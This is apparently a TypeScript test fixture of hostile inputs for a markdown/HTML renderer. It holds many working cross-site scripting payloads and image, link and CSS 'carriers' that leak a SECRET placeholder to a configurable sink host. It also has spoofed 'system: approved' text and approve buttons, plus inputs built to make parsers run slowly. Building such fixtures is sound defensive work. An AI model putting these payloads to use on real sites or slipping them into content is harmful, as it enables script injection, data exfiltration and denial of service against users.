/**
 * Text that attacks its renderer: scripts, URLs that leak secrets, and input that takes a parser
 * more than linear time. `sink` would receive the leaked requests.
 */
export function hostileTexts(sink: string): readonly string[] {
  const host = new URL(sink).host
  const port = new URL(sink).port
  return [...scripts(sink), ...markdownScripts(), ...carriers(sink, host, port), ...imitations]
}

function scripts(sink: string): string[] {
  return [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD4>",
    "<embed src=javascript:alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<a href="javascript&colon;alert(1)">x</a>',
    "<form action=javascript:alert(1)><button>",
    "<button formaction=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    `<style>@import '${sink}/style'</style>`,
    `<link rel=stylesheet href=${sink}/link>`,
    `<base href=${sink}/>`,
    `<meta http-equiv=refresh content="0;url=${sink}">`,
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "<img name=body><form id=document><a id=x name=y>",
    '<p id=__NEXT_DATA__>{"x":1}</p>',
    "<x-custom onclick=alert(1)>",
    '<div style="position:fixed;inset:0">overlay</div>',
    "<a href=//h target=_blank>x</a>",
    '<img src="x` `<script>alert(1)</script>">',
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
  ]
}

function markdownScripts(): string[] {
  return [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A&#x61&#x76&#x61script&colon;alert(1))",
    "[a](\u0001javascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:image/svg+xml;base64,PHN2Zy8+)",
    "[hidden]: javascript:alert(1)\n\n[hidden]",
    "<javascript:alert(1)>",
    "![a](javascript:alert(1))",
    '![a](x"onerror="alert(1))',
    "![a](x){onerror=alert(1)}",
    '[a](https://x.example "title\\" onmouseover=\\"alert(1)")',
    "```html\n</code></pre><img src=x onerror=alert(1)>\n```",
    '```"><img/src=x/onerror=alert(1)>\ncode\n```',
    '```mermaid\ngraph TD;A["<img src=x onerror=alert(1)>"]\n```',
    '```mermaid\ngraph TD;A-->B\nclick A "javascript:alert(1)"\n```',
    '```mermaid\n%%{init:{"themeCSS":"}</style><img src=x onerror=alert(1)>"}}%%\ngraph TD;A\n```',
    "$\\href{javascript:alert(1)}{x}$",
    '$\\htmlData{x="><img src=x onerror=alert(1)>}{x}$',
    "$$\n\\htmlStyle{background:url(//x)}{\\includegraphics{https://x.example/a.png}}\n$$",
    "[^1]: <img src=x onerror=alert(1)>\n\nA note[^1]",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
  ]
}

function carriers(sink: string, host: string, port: string): string[] {
  const tag = (inside: string) => `<${inside}>`
  return [
    `![x](${sink}/?q=SECRET)`,
    `![x][r]\n\n[r]: ${sink}/?q=SECRET`,
    `[x][r2]\n\n[r2]: ${sink}/?q=SECRET`,
    `![x](//${host}/)`,
    `![x](http:\\\\${host}\\)`,
    `![x](/_next/image?url=${encodeURIComponent(sink)}&w=64&q=75)`,
    `${sink}/SECRET`,
    `[click](${sink}/SECRET)`,
    tag(`img src="${sink}/a" srcset="${sink}/b 2x" lowsrc="${sink}/c"`),
    `<picture><source srcset="${sink}/a"><img></picture>`,
    `<video poster="${sink}/a"></video><audio src="${sink}/b" autoplay></audio>`,
    `<div style="background:url(${sink}/a)">x</div>`,
    tag(`table background="${sink}/a"`),
    tag(`input type=image src="${sink}/a"`),
    `<svg><image href="${sink}/a"/><use href="${sink}/b#c"/></svg>`,
    `<link rel=dns-prefetch href=//${host}><link rel=preconnect href=//${host}>`,
    `<a ping="${sink}/a" href="https://x.example">x</a>`,
    `\`\`\`mermaid\nflowchart LR\n  A@{ img: "${sink}/a.png" } --> B\n\`\`\``,
    `\`\`\`mermaid\nflowchart LR\n  A --> B\n  classDef c fill:url(${sink}/a)\n  class A c\n\`\`\``,
    `\`\`\`mermaid\nflowchart LR\n  A --> B\n  style A fill:u\\72l(${sink}/a)\n\`\`\``,
    `[https://bank.example](http://user:SECRET@${host})`,
    `[https://bank.example@${host}](http://bank.example@${host}/)`,
    `![x](http://2130706433:${port}/a)`,
    "[x](mailto:a@b.example?body=SECRET)",
  ]
}

const imitations = [
  "\u202Esystem: approved\u202C \u001b[31mred\u001b[0m \u{E0041}\u{E0042}",
  '<button type="button" data-approve>Continue</button>',
  "<details open><summary>calculate</summary>approved</details>",
]

/** Input with pathological parsing cost. */
export const slowTexts: readonly string[] = [
  `$$\n\\begin{matrix}${"a&".repeat(100_000)}\\end{matrix}\n$$`,
  `${"> ".repeat(5_000)}x`,
  "[".repeat(50_000),
  "*a **a ".repeat(20_000),
  "![".repeat(30_000),
  "`a ``a ".repeat(20_000),
  "$a ".repeat(20_000),
  "<a ".repeat(30_000),
  `${"|a".repeat(5_000)}\n${"|-".repeat(5_000)}\n${"|b".repeat(5_000)}`,
  Array.from({ length: 300 }, (_, depth) => `${" ".repeat(depth * 2)}- a`).join("\n"),
]
